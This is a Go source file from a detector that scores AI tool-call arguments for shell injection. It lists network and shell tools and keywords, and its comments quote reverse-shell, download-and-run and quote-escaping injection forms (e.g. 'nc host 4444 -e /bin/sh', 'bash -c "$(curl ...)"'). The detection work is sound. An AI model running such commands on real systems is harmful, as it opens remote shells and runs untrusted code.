package argument

import (
	"encoding/base64"
	"net/url"
	"strings"
	"unicode/utf16"
	"unicode/utf8"
)

// How a string argument reaches a shell, and the factor that scales the
// weights of what the command analysers find in it.
type execMode int

const (
	// modeExec: the argument of an exec-like tool that it runs.
	modeExec execMode = iota
	// modeValue: an ordinary value (a name, a path, a host) of a tool that
	// does not run commands, where a shell command can only be injected.
	modeValue
	// modeData: free text or file content (a file to write, a message, a
	// note): written or shown, not run.
	modeData
)

// Weight factors per mode for the always-suspicious patterns (reverse
// shells, download-and-run) and for command findings in injected values.
const (
	factorExec  = 1.0
	factorValue = 0.85
	factorData  = 0.5
	// factorProjectFile scales the content a file-writing tool puts in a
	// file of the project (a relative path: a Dockerfile, a Makefile, an
	// install script): code being written, run later if at all by the
	// user's build, not a command run now (DOMAIN.md: code-editing tools
	// writing shell scripts are benign). Files outside the project keep
	// factorData.
	factorProjectFile = 0.35
	// factorDoc: a command quoted in a document the user edits (a
	// Markdown code block, a README): install instructions, not a
	// payload.
	factorDoc = 0.3
)

// document reports free text that is a document a person reads: it
// holds a Markdown code fence, or a second-level Markdown heading with
// bold text or a link, or the tool writes a page, note, wiki article,
// comment, post, issue, ticket or message, or the call writes a file whose
// name says documentation (.md, .rst, .adoc, .txt, .html).
func (a *analysis) document(s string) bool {
	if strings.Contains(s, "```") || strings.Contains(s, "~~~") {
		return true
	}
	if (strings.HasPrefix(s, "## ") || strings.Contains(s, "\n## ") || strings.Contains(s, "\n### ")) && (strings.Contains(s, "**") || strings.Contains(s, "](")) {
		// Markdown: a second-level heading with bold text or a link
		// (a shell script's "# comment" has neither)
		return true
	}
	if a.docPath != 0 {
		return a.docPath > 0
	}
	a.docPath = -1
	if hasWord(a.toolWords, "page", "pages", "note", "notes", "wiki", "article", "doc", "docs", "document", "comment", "post", "issue", "ticket", "message", "blog") &&
		!hasWord(a.toolWords, "run", "exec", "execute", "shell", "script", "command", "terminal", "eval") {
		// the body of a wiki page, note, comment or ticket: people read it
		a.docPath = 1
		return true
	}
	for i := range a.items {
		it := &a.items[i]
		if it.kc != keyPath || it.isKey {
			continue
		}
		l := it.lower()
		for _, ext := range []string{".md", ".markdown", ".mdx", ".rst", ".adoc", ".txt", ".html", ".htm"} {
			if strings.HasSuffix(l, ext) {
				a.docPath = 1
				return true
			}
		}
	}
	return false
}

// Command-name sets.
var (
	netCmds = set("curl", "wget", "nc", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "tftp", "rsync", "nslookup", "dig",
		"host", "openssl", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "certutil", "bitsadmin", "aria2c",
		"lwp-download", "fetch", "http", "https", "xh", "start-bitstransfer", "ncat", "cryptcat", "smbclient", "finger", "whois")
	fetchCmds = set("curl", "wget", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "fetch", "lwp-download", "aria2c",
		"http", "https", "xh", "lwp-request", "certutil", "bitsadmin", "start-bitstransfer")
	// rawNetCmds open a raw connection whose data a shell can run.
	rawNetCmds = set("nc", "telnet", "openssl", "socat", "cryptcat", "ncat")
	shellCmds  = set("sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "csh", "tcsh", "mksh", "cmd", "powershell", "busybox")
	interpCmds = set("python", "perl", "ruby", "php", "node", "lua", "osascript", "tclsh", "deno", "bun", "iex",
		"invoke-expression", "jshell", "groovy", "rscript", "julia", "wscript", "cscript", "mshta")
	knownCmds = set("cat", "ls", "id", "whoami", "uname", "hostname", "ifconfig", "ip", "ipconfig", "netstat", "ss", "ps",
		"env", "printenv", "pwd", "echo", "printf", "touch", "rm", "mv", "cp", "chmod", "chown", "mkdir", "rmdir", "ln", "find",
		"grep", "egrep", "awk", "sed", "head", "tail", "less", "more", "sort", "tee", "dd", "tar", "zip", "unzip", "gzip",
		"base64", "xxd", "od", "strings", "curl", "wget", "nc", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "tftp", "rsync",
		"ping", "nslookup", "dig", "host", "traceroute", "nmap", "sh", "bash", "zsh", "dash", "ksh", "csh", "fish", "python",
		"perl", "ruby", "php", "node", "lua", "powershell", "cmd", "certutil", "bitsadmin", "mshta", "rundll32", "regsvr32",
		"wmic", "net", "reg", "schtasks", "sc", "tasklist", "taskkill", "systeminfo", "kill", "killall", "pkill", "sleep",
		"crontab", "systemctl", "service", "sudo", "su", "chattr", "useradd", "usermod", "passwd", "shutdown", "reboot",
		"halt", "mkfifo", "mknod", "openssl", "gcc", "make", "git", "docker", "kubectl", "eval", "exec", "source", "nohup",
		"history", "export", "which", "apt", "apt-get", "yum", "dnf", "apk", "pip", "npm", "npx", "iex", "invoke-expression",
		"invoke-webrequest", "iwr", "irm", "start-process", "mount", "insmod", "modprobe", "mkfs", "shred", "wipe", "xargs",
		"busybox", "timeout", "getent", "sysctl", "setsid", "nsenter", "chroot", "tr", "cut", "wc", "uniq", "file", "stat",
		"lsof", "who", "w", "last", "crontab", "at", "visudo", "setcap", "gpasswd", "adduser", "deluser", "userdel", "osascript")
	// noArgRecon are commands an injection runs without arguments.
	noArgRecon = set("id", "whoami", "uname", "hostname", "ifconfig", "ipconfig", "netstat", "ps", "env", "printenv", "pwd",
		"systeminfo", "tasklist", "ls", "who", "w", "reboot", "shutdown", "halt", "history")
)

func set(words ...string) map[string]bool {
	m := make(map[string]bool, len(words))
	for _, w := range words {
		m[w] = true
	}
	return m
}

// commandItem runs the command analysers (command injection, privileged,
// destructive) on one string.
func (a *analysis) commandItem(it *item) {
	if it.jsonText && !a.exec {
		// JSON text whose members are items of their own: the command
		// readers see them there (an exec tool may run the text
		// itself, "{ curl …; }" being a shell group too); grants and
		// pod specs are read on the whole text
		a.grantText(it, 1)
		return
	}
	if it.isKey {
		// A key is never run; only an injection shaped like a value counts.
		if hasChainMeta(it.s) && len(it.s) <= 512 {
			a.valueInjection(it, a.parseShell(it.s))
		}
		return
	}
	s := it.s
	mode := a.modeOf(it)
	a.textSignals(it, mode)
	a.sqlItem(it)
	switch mode {
	case modeExec:
		sc := a.parseShell(s)
		it.sc = sc
		a.scriptSignals(it, sc, factorExec, 0)
	case modeValue:
		if hasChainMeta(s) {
			sc := a.parseShell(s)
			fired := a.valueInjection(it, sc)
			// A value meant to break out of the quotes a command puts
			// it in (a.jpg" ; wget ... ; "): read it inside them too.
			for _, q := range []string{`"`, `'`} {
				if !fired && strings.Contains(s, q) && len(s) <= 4096 {
					if alt := a.parseShell(q + s + q); a.valueInjection(it, alt) {
						sc, fired = alt, true
					}
				}
			}
			if fired {
				a.scriptSignals(it, sc, factorValue, 0)
			}
		}
		a.embeddedCommands(it, factorValue)
		a.argumentInjection(it)
	case modeData:
		if dataGate(it.lower()) {
			f := a.dataFactor(s)
			if f == factorData && a.projectFileWrite() {
				f = factorProjectFile
			}
			a.scriptSignals(it, a.parseShell(s), f, 0)
			if !strings.Contains(s, "\n") && len(s) <= 1024 {
				// One line of text (a title, a subject, a SQL
				// statement): a command inside is injected, not
				// written. Files (a Dockerfile's RUN curl ... | bash)
				// are read as they are, and so are sentences that
				// quote one (a case note: "Sandbox shows `powershell
				// -enc …` which decodes to …").
				ef := factorValue
				if proseLine(s) || a.dataFileWrite() {
					ef = factorDoc
				}
				a.embeddedCommands(it, ef)
			}
		}
	}
	a.writeTargetItem(it)
	gf := 1.0
	if mode == modeData && a.document(s) {
		gf = 0.5 // a manifest shown in documentation
	}
	a.grantText(it, gf)
}

// dataFactor is the weight factor of command signals in data s:
// factorDoc for documentation (document) and sentences (proseLine) that
// quote a command, factorData otherwise.
func (a *analysis) dataFactor(s string) float64 {
	if a.document(s) || proseLine(s) || a.dataFileWrite() {
		return factorDoc
	}
	return factorData
}

// dataFileWrite reports a file-writing tool whose path arguments (one at
// least) all name data files nothing runs: .json, .ndjson, .md, .txt,
// .log, .csv (a detection rule's test sample, a report).
func (a *analysis) dataFileWrite() bool {
	if !a.tool.writeFile {
		return false
	}
	if a.dataFile != 0 {
		return a.dataFile > 0
	}
	a.dataFile = -1
	if a.dataFileTargets() {
		a.dataFile = 1
	}
	return a.dataFile > 0
}

// dataFileTargets is dataFileWrite's reading of the path arguments.
func (a *analysis) dataFileTargets() bool {
	n := 0
	for i := range a.items {
		it := &a.items[i]
		if it.isKey || it.kc != keyPath || it.embedded {
			continue
		}
		l := strings.ToLower(it.s)
		ok := false
		for _, x := range []string{".json", ".ndjson", ".md", ".txt", ".log", ".csv"} {
			ok = ok || strings.HasSuffix(l, x)
		}
		if !ok || strings.Contains(l, ".git/hooks") {
			return false
		}
		n++
	}
	return n > 0
}

// proseLine reports one line of sentences: fifteen words or more and two
// sentence ends (. ? !) at least, as a note, a case description or a quiz
// question has and a title, a subject or a file name has not.
func proseLine(s string) bool {
	ends := strings.Count(s, ". ") + strings.Count(s, "? ") + strings.Count(s, "! ")
	if t := strings.TrimRight(s, " "); strings.HasSuffix(t, ".") || strings.HasSuffix(t, "?") || strings.HasSuffix(t, "!") {
		ends++
	}
	return ends >= 2 && len(strings.Fields(s)) >= 15
}

// projectFileWrite reports a file-writing tool whose path argument is
// relative and inside the project, not one of Git's hooks (which run by
// themselves).
func (a *analysis) projectFileWrite() bool {
	if !a.tool.writeFile {
		return false
	}
	for i := range a.items {
		it := &a.items[i]
		if it.isKey || it.kc != keyPath {
			continue
		}
		p := strings.ReplaceAll(it.s, `\`, "/")
		return p != "" && p[0] != '/' && p[0] != '~' && !strings.HasPrefix(p, "..") && !strings.Contains(p, ":") && !strings.Contains(p, ".git/hooks")
	}
	return false
}

// loopbackTargets reports a network command whose URL arguments (one at
// least) all name this machine plainly: localhost, 127.0.0.1, [::1], not
// an encoded or rebinding form.
func loopbackTargets(r resolved) bool {
	n := 0
	for _, w := range r.args {
		i := strings.Index(w, "://")
		if i <= 0 {
			continue
		}
		u, err := url.Parse(w)
		if err != nil {
			return false
		}
		if hv := classifyHost(strings.ToLower(u.Hostname())); hv.class != "loopback" || hv.obfuscated {
			return false
		}
		n++
	}
	return n > 0
}

// downloadsToFile reports curl or wget writing what it fetches to a file
// (-o/-O/--output, wget's default), not to a pipe, and sending nothing.
func downloadsToFile(r resolved) bool {
	if uploadsFile(r) {
		return false
	}
	for _, w := range r.args {
		switch {
		case w == "-d" || strings.HasPrefix(w, "--data") || w == "-F" || strings.HasPrefix(w, "--form") || w == "-T" || w == "--upload-file" || w == "-X" || w == "--post-file" || w == "--post-data":
			return false
		}
	}
	switch r.name {
	case "wget":
		return !anyEq(r.args, "-O-", "-qO-", "-O", "-") || anyHasPrefix(r.args, "-O/") || anyHasPrefix(r.args, "--output-document=/")
	case "curl":
		for _, w := range r.args {
			if w == "-o" || w == "-O" || w == "--output" || strings.HasPrefix(w, "--output=") || len(w) > 2 && w[0] == '-' && w[1] != '-' && strings.ContainsAny(w[1:], "oO") {
				return true
			}
		}
	}
	return false
}

// modeOf tells how the string reaches a shell.
func (a *analysis) modeOf(it *item) execMode {
	k := it.kc
	if it.embedded && a.tool.writeFile {
		// a member of JSON a file write saves (a log sample's
		// CommandLine, a config's command): the file's data, which
		// this call does not run
		return modeData
	}
	if k == keyCommand {
		// A "command" or "script" argument is run by whatever tool takes
		// it (kubectl, redis, git, a shell).
		return modeExec
	}
	if a.exec {
		switch k {
		case keyCommand, keyOther:
			return modeExec
		}
		switch it.key {
		case "code", "input", "source", "stdin", "args", "arguments", "argv", "line", "lines", "program", "expression",
			"expr", "statement", "query", "text", "body", "content", "value", "":
			return modeExec
		}
	}
	if k == keyData || strings.Count(it.s, "\n") > 3 || len(it.s) > 1024 {
		return modeData
	}
	return modeValue
}

// dataGate reports whether free text holds a word that the script
// signals look for; other text is not tokenized.
func dataGate(l string) bool {
	if len(l) > maxShellBytes {
		l = l[:maxShellBytes]
	}
	return !gateAnchors.scan(l).none()
}

// gateAnchors are the words dataGate looks for.
var gateAnchors = newAnchorSet("curl", "wget", "/dev/tcp", "/dev/udp", " nc ", "nc -", "ncat", "socat", "mkfifo", "bash", "sh -c", "| sh", "|sh", "python", "perl -e", "powershell", "pwsh", "iex", "base64 -d", "base64 --d", "certutil", "bitsadmin", "eval ", "sudo ", "chmod ", "authorized_keys", "sudoers", "crontab", "rm -", "mkfs", "of=/dev", "shred", "nsenter", "docker ", "kubectl ", "terraform ", "git push", "format c:", "vssadmin", "php -r", "ruby -e", "node -e")

// hasChainMeta reports whether s holds a shell metacharacter that chains
// or substitutes commands: ; & | ` $( ${IFS} $IFS or a newline.
func hasChainMeta(s string) bool {
	return strings.ContainsAny(s, ";&|`\n") || strings.Contains(s, "$(") || strings.Contains(s, "${IFS") || strings.Contains(s, "$IFS")
}

// isMarkdownTable reports whether s has a line shaped like a Markdown
// table row (| a | b |).
func isMarkdownTable(s string) bool {
	for _, line := range strings.Split(s, "\n") {
		t := strings.TrimSpace(line)
		if len(t) >= 3 && t[0] == '|' && t[len(t)-1] == '|' {
			return true
		}
	}
	return false
}

// valueInjection reports (and records) a shell command injected into an
// ordinary value: a short head (at most three words, the value) joined by
// a chaining operator or substitution to a known command that is either a
// network tool, shell or interpreter, has command-like arguments (flags,
// paths, URLs, redirections), or is a reconnaissance command run bare.
func (a *analysis) valueInjection(it *item, sc *shScript) bool {
	if len(sc.cmds) == 0 || isMarkdownTable(it.s) {
		return false
	}
	head := &sc.cmds[0]
	if head.op == "" && len(head.words) > 3 {
		return false
	}
	lines := strings.Count(it.s, "\n")
	// In a URL "&" separates query parameters (?raw&id), not commands.
	url := !strings.ContainsAny(it.s, " \t\n") && strings.Contains(it.s, "://")
	fired := false
	for i := range sc.cmds {
		c := &sc.cmds[i]
		if i == 0 && c.depth == 0 && c.op == "" {
			continue
		}
		if c.op == "\n" && (lines > 3 || len(head.words) > 2) || c.op == "&" && url {
			continue
		}
		r := resolve(c)
		if r.name != "" && !knownCmds[r.name] && c.depth > 0 && len(head.words) <= 1 && (c.op == "$(" || c.op == "`") && plausibleCmdName(r.name) && !mixedCaseWord(c.words[0]) {
			// Any command substituted into a one-word value (a URL, a
			// name): values never hold $(...).
			a.cmd.add("command_injection.substitution", it.field, a.spanAll(it.s), 0.45)
			fired = true
			continue
		}
		if r.name == "" || !knownCmds[r.name] {
			continue
		}
		strong := netCmds[r.name] || shellCmds[r.name] || interpCmds[r.name] || r.name == "eval" || r.name == "exec"
		bare := noArgRecon[r.name] && len(r.args) == 0
		if !strong && !bare && !commandish(r.args) && len(c.redirs) == 0 {
			continue
		}
		w := 0.55
		if strong {
			w = 0.7
		}
		a.cmd.add("command_injection.shell_metachar", it.field, a.spanAll(it.s), w)
		fired = true
	}
	if sc.ifs {
		a.cmd.add("command_injection.ifs_evasion", it.field, a.spanAll(it.s), 0.55)
		fired = true
	}
	return fired
}

// plausibleCmdName reports a word that can name a program: a letter,
// "_", "." or "/" first, then letters, digits and . _ + - / \ : (an
// encoded polyline or a password between backticks is not one).
func plausibleCmdName(n string) bool {
	if n == "" || !(isAlpha(n[0]) || n[0] == '_' || n[0] == '.' || n[0] == '/') {
		return false
	}
	for i := 1; i < len(n); i++ {
		c := n[i]
		if !(isAlpha(c) || '0' <= c && c <= '9' || strings.IndexByte("._+-/\\:", c) >= 0) {
			return false
		}
	}
	return true
}

// mixedCaseWord reports a word with a capital after a small letter and no
// dash (gQa, from an encoded polyline's backticks): program names are
// written in one case (whoami, CMD.EXE); PowerShell's Verb-Noun names
// have a dash.
func mixedCaseWord(w string) bool {
	if strings.Contains(w, "-") {
		return false
	}
	for i := 1; i < len(w); i++ {
		if 'A' <= w[i] && w[i] <= 'Z' && 'a' <= w[i-1] && w[i-1] <= 'z' {
			return true
		}
	}
	return false
}

// commandish reports whether a command's arguments look like a command's
// rather than prose: a flag, a path, a URL, an assignment, a file name
// with an extension, a substitution.
func commandish(args []string) bool {
	for _, w := range args {
		switch {
		case len(w) >= 2 && w[0] == '-' && w[1] != ' ':
			return true
		case strings.ContainsAny(w, `/\=`):
			return true
		case strings.Contains(w, "$()") || strings.HasPrefix(w, "$"):
			return true
		case strings.Count(w, ".") >= 1 && !strings.HasSuffix(w, ".") && len(w) > 2:
			return true
		case w == "*" || w == "~":
			return true
		}
	}
	return false
}

// scriptSignals reads a tokenized command line: reverse shells,
// download-and-run, pipes into interpreters, chained network tools,
// encoded PowerShell, inline interpreter code, and the privileged and
// destructive commands. f scales the weights; depth bounds recursion into
// inline scripts.
func (a *analysis) scriptSignals(it *item, sc *shScript, f float64, depth int) {
	if depth > 2 || len(sc.cmds) == 0 {
		return
	}
	field := it.field
	sp := func() string { return a.spanAll(it.s) }
	hasMkfifo, hasNetPipe := false, false
	fetched := map[string]bool{} // files a fetch wrote
	pipeStart := 0
	decoded := map[int]bool{} // echo commands already decoded
	res := make([]resolved, len(sc.cmds))
	for i := range sc.cmds {
		res[i] = resolve(&sc.cmds[i])
	}
	for i := range sc.cmds {
		c := &sc.cmds[i]
		r := res[i]
		if c.op != "|" {
			pipeStart = i
		}
		// Chained: joined to a command before it, or run inside a
		// substitution ("ls; curl x", "a && wget y", "echo $(curl z)").
		chained := c.depth > 0 || c.op != "" && c.op != "$(" && c.op != "`"
		// Reverse shells: /dev/tcp redirections and arguments.
		for _, rd := range c.redirs {
			if isDevNet(rd.target) {
				a.cmd.add("command_injection.reverse_shell", field, sp(), 0.92*f)
			}
		}
		for _, w := range c.words {
			if isDevNet(w) {
				a.cmd.add("command_injection.reverse_shell", field, sp(), 0.92*f)
			}
		}
		if r.name == "" {
			continue
		}
		if r.name == "mkfifo" || r.name == "mknod" {
			hasMkfifo = true
		}
		switch r.name {
		case "nc", "telnet", "socat", "openssl", "cryptcat":
			hasNetPipe = hasNetPipe || c.op == "|" || i+1 < len(sc.cmds) && sc.cmds[i+1].op == "|"
		}
		if r.name == "nc" && ncExec(r.args) {
			a.cmd.add("command_injection.reverse_shell", field, sp(), 0.92*f)
		}
		if r.name == "socat" {
			for _, w := range r.args {
				lw := strings.ToLower(w)
				if strings.Contains(lw, "exec:") || strings.Contains(lw, "system:") {
					a.cmd.add("command_injection.reverse_shell", field, sp(), 0.92*f)
				}
			}
		}
		// Pipes into a shell or an interpreter.
		if c.op == "|" && (shellCmds[r.name] || interpCmds[r.name]) && readsStdin(r) {
			w := 0.55
			sig := "command_injection.pipe_to_interpreter"
			for j := pipeStart; j < i; j++ {
				switch {
				case rawNetCmds[res[j].name]:
					// nc/telnet/openssl s_client feeding a shell: a
					// reverse shell.
					sig, w = "command_injection.reverse_shell", 0.88
				case fetchCmds[res[j].name] && sig != "command_injection.reverse_shell":
					sig, w = "command_injection.download_and_run", 0.92
				case isDecoder(res[j]):
					if sig != "command_injection.download_and_run" {
						sig, w = "command_injection.decode_and_run", 0.85
					}
					a.decodeEchoed(it, res, pipeStart, j, f, depth, decoded)
				}
			}
			a.cmd.add(sig, field, sp(), w*f)
		}
		// Interpreters and eval fed from a fetch: bash -c "$(curl ...)",
		// bash <(curl ...), eval "$(wget -qO- ...)", source <(curl ...).
		if shellCmds[r.name] || interpCmds[r.name] || r.name == "eval" || r.name == "source" || r.name == "." {
			for _, first := range c.subst {
				if substFetches(sc, res, first) {
					a.cmd.add("command_injection.download_and_run", field, sp(), 0.92*f)
				}
			}
			if r.name == "eval" && len(c.subst) == 0 && anyHasPrefix(r.args, "$") {
				a.cmd.add("command_injection.eval", field, sp(), 0.4*f)
			}
		}
		// Network tools: chained to other commands, fed substitutions
		// (exfiltration through the URL or a DNS name), uploading files.
		if netCmds[r.name] && f > factorData {
			switch {
			case len(c.subst) > 0 || anyContains(r.args, "$()"):
				a.cmd.add("command_injection.exfil_substitution", field, sp(), 0.7*f)
			case chained && f >= factorExec && downloadsToFile(r):
				// a shell tool fetching a key or an archive to a file
				// as one step of a set-up: administration
				a.cmd.add("command_injection.network_tool", field, sp(), 0.1*f)
			case chained && f >= factorExec && loopbackTargets(r) && !uploadsFile(r):
				// a shell tool checking the service it just started
				// (docker compose up -d && curl localhost:8080/healthz)
				a.cmd.add("command_injection.network_tool", field, sp(), 0.1*f)
			case chained:
				a.cmd.add("command_injection.chained_network", field, sp(), 0.45*f)
			default:
				a.cmd.add("command_injection.network_tool", field, sp(), 0.1*f)
			}
			if uploadsFile(r) {
				a.cmd.add("command_injection.upload_file", field, sp(), 0.5*f)
			}
		}
		// Download to a file, then run it: wget -O /tmp/x ...; sh /tmp/x.
		if fetchCmds[r.name] {
			for _, o := range fetchOutputs(c, r) {
				fetched[o] = true
				fetched[baseName(o)] = true
			}
		} else if len(fetched) > 0 && runsFile(r, fetched) {
			a.cmd.add("command_injection.download_and_run", field, sp(), 0.85*f)
		}
		// Inline code: sh -c '...', python -c '...', powershell -enc ...
		a.inlineCode(it, r, chained, f, depth)
		a.listingCmd(it, r, sc, res)
		if f > factorData {
			a.credentialCmd(it, r, c, f)
		}
		a.privilegedCmd(it, sc, res, i, f, depth)
		a.destructiveCmd(it, c, r, f)
	}
	if hasMkfifo && hasNetPipe {
		a.cmd.add("command_injection.reverse_shell", field, sp(), 0.88*f)
	}
	if sc.ifs {
		a.cmd.add("command_injection.ifs_evasion", field, sp(), 0.55*f)
	}
}

// ncExec reports netcat told to run a program for the connection:
// -e/-c/--exec/--sh-exec/--lua-exec followed by a shell, an interpreter
// or a path (nc host 4444 -e /bin/sh), or the flag written with it
// (-e/bin/sh).
func ncExec(args []string) bool {
	for i, w := range args {
		switch {
		case w == "-e" || w == "-c" || w == "--exec" || w == "--sh-exec" || w == "--lua-exec" ||
			len(w) > 1 && w[0] == '-' && w[1] != '-' && (strings.HasSuffix(w, "e") || strings.HasSuffix(w, "c")):
			if i+1 < len(args) {
				p := strings.ToLower(strings.TrimSuffix(baseName(args[i+1]), ".exe"))
				if shellCmds[p] || interpCmds[p] || strings.ContainsAny(args[i+1], `/\`) || w == "--sh-exec" || w == "-c" {
					return true
				}
			}
		case strings.HasPrefix(w, "-e/") || strings.HasPrefix(w, "--exec="):
			return true
		}
	}
	return false
}

// isDevNet reports a bash network pseudo-file (/dev/tcp/host/port).
func isDevNet(w string) bool {
	return strings.Contains(w, "/dev/tcp/") || strings.Contains(w, "/dev/udp/")
}

// readsStdin reports whether an interpreter at the end of a pipe runs what
// it reads (no script file argument, or "-").
func readsStdin(r resolved) bool {
	for _, w := range r.args {
		if w == "-" || w == "-s" || w == "-i" {
			return true
		}
		if strings.HasPrefix(w, "-") {
			continue
		}
		return false
	}
	return true
}

// isDecoder reports a base64 (or hex) decoding stage.
func isDecoder(r resolved) bool {
	switch r.name {
	case "base64", "base32", "basenc":
		return hasAnyFlag(r.args, "-d", "--decode", "-D", "-di", "-id")
	case "openssl":
		return anyEq(r.args, "base64", "enc") && hasAnyFlag(r.args, "-d", "-base64", "-a")
	case "xxd":
		return hasAnyFlag(r.args, "-r", "-rp", "-r -p", "-p")
	}
	return false
}

// decodeEchoed decodes the base64 literal that an echo or printf before a
// decoding stage writes, and analyses the decoded script.
func (a *analysis) decodeEchoed(it *item, res []resolved, from, to int, f float64, depth int, done map[int]bool) {
	for j := from; j < to; j++ {
		if res[j].name != "echo" && res[j].name != "printf" || done[j] {
			continue
		}
		done[j] = true
		for _, w := range res[j].args {
			if dec, ok := decodeBase64(w); ok && utf8.ValidString(dec) {
				a.scriptSignals(it, a.parseShell(dec), f, depth+1)
				a.textSignalsOn(it, dec, f)
			}
		}
	}
}

// substFetches reports whether the substitution starting at sc.cmds[first]
// runs a fetching command.
func substFetches(sc *shScript, res []resolved, first int) bool {
	d := sc.cmds[first].depth
	for j := first; j < len(sc.cmds) && sc.cmds[j].depth >= d; j++ {
		if j > first && sc.cmds[j].depth == d && (sc.cmds[j].op == "$(" || sc.cmds[j].op == "`" || sc.cmds[j].op == "<(") {
			break
		}
		if fetchCmds[res[j].name] || res[j].name == "nc" {
			return true
		}
	}
	return false
}

// uploadsFile reports options that make network tool r send a local
// file or its standard input, by the tool's own option syntax: curl's
// -d/--data*/-F/--form/--json with @file and -T/--upload-file; wget's
// --post-file and --body-file; PowerShell's -InFile; HTTPie's and xh's
// field@file, field=@file and @file. The same letters mean other things
// to other tools (ssh -T turns off the terminal, rsync -T names a
// temporary directory), so each tool is read with its own table.
func uploadsFile(r resolved) bool {
	switch r.name {
	case "curl":
		for i, w := range r.args {
			switch {
			case (w == "-d" || w == "--data" || w == "--data-binary" || w == "--data-raw" || w == "--data-urlencode" || w == "-F" || w == "--form" || w == "--json") &&
				i+1 < len(r.args) && strings.Contains(r.args[i+1], "@"):
				return true
			case strings.HasPrefix(w, "-d@") || strings.HasPrefix(w, "-F") && strings.Contains(w, "=@") ||
				strings.HasPrefix(w, "--data-binary=@") || strings.HasPrefix(w, "--data=@") || strings.HasPrefix(w, "--json=@"):
				return true
			case w == "-T" || w == "--upload-file" || strings.HasPrefix(w, "--upload-file=") || len(w) > 2 && strings.HasPrefix(w, "-T") && !strings.HasPrefix(w, "--"):
				return true
			}
		}
	case "wget":
		for _, w := range r.args {
			if strings.HasPrefix(w, "--post-file") || strings.HasPrefix(w, "--body-file") {
				return true
			}
		}
	case "iwr", "invoke-webrequest", "irm", "invoke-restmethod":
		for _, w := range r.args {
			if strings.EqualFold(w, "-infile") {
				return true
			}
		}
	case "http", "https", "xh":
		for _, w := range r.args {
			if strings.HasPrefix(w, "-") || strings.Contains(w, "://") {
				continue
			}
			if at := strings.IndexByte(w, '@'); at >= 0 && at+1 < len(w) && (strings.Contains(w, "=@") || strings.IndexByte("~./", w[at+1]) >= 0) {
				return true
			}
		}
	}
	return false
}

// inlineCode analyses the code an interpreter runs from its arguments.
func (a *analysis) inlineCode(it *item, r resolved, chained bool, f float64, depth int) {
	code, isShell := "", false
	switch {
	case shellCmds[r.name] && r.name != "powershell" && r.name != "cmd":
		code, isShell = flagValue(r.args, func(w string) bool { return len(w) >= 2 && w[0] == '-' && w[1] != '-' && strings.ContainsRune(w, 'c') }), true
	case r.name == "cmd":
		code, isShell = flagValue(r.args, func(w string) bool { l := strings.ToLower(w); return l == "/c" || l == "/k" || l == "/r" }), true
	case r.name == "powershell":
		a.powershell(it, r, f, depth)
		return
	case r.name == "python":
		code = flagValue(r.args, func(w string) bool {
			return w == "-c" || strings.HasPrefix(w, "-") && strings.HasSuffix(w, "c") && !strings.HasPrefix(w, "--")
		})
	case r.name == "perl" || r.name == "ruby" || r.name == "lua" || r.name == "osascript":
		code = flagValue(r.args, func(w string) bool {
			return w == "-e" || w == "-E" || strings.HasPrefix(w, "-") && !strings.HasPrefix(w, "--") && strings.HasSuffix(w, "e")
		})
	case r.name == "node" || r.name == "deno" || r.name == "bun":
		code = flagValue(r.args, func(w string) bool { return w == "-e" || w == "--eval" || w == "-p" || w == "--print" || w == "eval" })
	case r.name == "php":
		code = flagValue(r.args, func(w string) bool { return w == "-r" })
	}
	if code == "" {
		return
	}
	if f <= factorData {
		// Written, not run: only what the inline code does counts.
		if isShell {
			a.scriptSignals(it, a.parseShell(code), f, depth+1)
		} else {
			a.interpreterCode(it, code, f)
		}
		return
	}
	w := 0.2
	if chained {
		w = 0.45
	}
	a.cmd.add("command_injection.inline_interpreter", it.field, a.spanAll(it.s), w*f)
	if isShell {
		a.scriptSignals(it, a.parseShell(code), f, depth+1)
		a.textSignalsOn(it, code, f)
		return
	}
	a.interpreterCode(it, code, f)
}

// flagValue returns the word after the first flag isFlag accepts.
func flagValue(args []string, isFlag func(string) bool) string {
	for i, w := range args {
		if isFlag(w) && i+1 < len(args) {
			return args[i+1]
		}
	}
	return ""
}

// interpreterCode reads inline Python, Perl, Ruby, PHP or JavaScript.
func (a *analysis) interpreterCode(it *item, code string, f float64) {
	l := strings.ToLower(code)
	sp := a.spanAll(it.s)
	sock := strings.Contains(l, "socket") || strings.Contains(l, "fsockopen") || strings.Contains(l, "tcpsocket") ||
		strings.Contains(l, "net.connect") || strings.Contains(l, "net.socket") || strings.Contains(l, "createconnection")
	spawn := containsAny(l, "pty.spawn", "subprocess", "dup2", "/bin/sh", "/bin/bash", "cmd.exe", "exec(", "spawn(",
		"proc_open", "shell_exec", "system(", "popen", "child_process", "exec ", "`")
	fetch := containsAny(l, "urllib", "urlopen", "requests.get", "http.get", "fetch(", "lwp::", "net::http", "open-uri",
		"file_get_contents(\"http", "file_get_contents('http", "httpclient", "wget", "curl")
	run := containsAny(l, "exec(", "eval(", "system(", "popen", "subprocess", "os.system", "child_process", "shell_exec", "`")
	switch {
	case sock && spawn:
		a.cmd.add("command_injection.reverse_shell", it.field, sp, 0.9*f)
	case fetch && run:
		a.cmd.add("command_injection.download_and_run", it.field, sp, 0.85*f)
	case containsAny(l, "b64decode", "base64_decode", "base64.decode", "atob(", "unpack('m", "unpack(\"m", "decode64") && run:
		a.cmd.add("command_injection.decode_and_run", it.field, sp, 0.75*f)
	case run:
		a.cmd.add("command_injection.interpreter_shell", it.field, sp, 0.35*f)
	}
}

// powershell reads a PowerShell command line: encoded commands
// (-EncodedCommand and its abbreviations, base64 of UTF-16LE, decoded and
// analysed), evasion options and the script of -Command.
func (a *analysis) powershell(it *item, r resolved, f float64, depth int) {
	sp := a.spanAll(it.s)
	evasion := 0
	for i, w := range r.args {
		l := strings.ToLower(w)
		if len(l) < 2 || l[0] != '-' && l[0] != '/' {
			continue
		}
		opt := l[1:]
		next := ""
		if i+1 < len(r.args) {
			next = r.args[i+1]
		}
		switch {
		case opt == "e" || opt == "ec" || len(opt) >= 2 && strings.HasPrefix("encodedcommand", opt) && opt != "ex":
			a.cmd.add("command_injection.encoded_powershell", it.field, sp, 0.6*f)
			if dec, ok := decodePowerShell(next); ok {
				a.cmd.add("command_injection.encoded_powershell", it.field, a.safe("decoded: "+dec), 0.6*f)
				a.textSignalsOn(it, dec, f)
				if depth < 2 {
					a.scriptSignals(it, a.parseShell(dec), f, depth+1)
				}
			}
